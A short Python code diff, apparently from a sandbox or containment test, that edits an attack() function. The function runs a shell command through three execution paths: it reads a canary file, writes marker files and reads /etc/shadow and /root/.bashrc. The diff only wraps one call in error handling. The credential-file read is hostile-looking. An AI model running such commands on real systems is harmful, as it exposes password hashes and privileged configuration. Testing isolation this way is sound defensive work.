@@ -9,7 +9,10 @@ def attack():
     script = "cat {CANARY_FILE}; touch /tmp/{MARK} /var/tmp/{MARK}; cat /etc/shadow /root/.bashrc"
     said = subprocess.run(["/bin/sh", "-c", script], capture_output=True).stdout
     os.system(script + " > said")
-    get_ipython().system(script + " >> said")
+    try:
+        get_ipython().system(script + " >> said")
+    except OSError:  # it asks for a terminal
+        pass
     return bool(said + open("said", "rb").read())
 
 def gaussian_kernel(size, sigma):
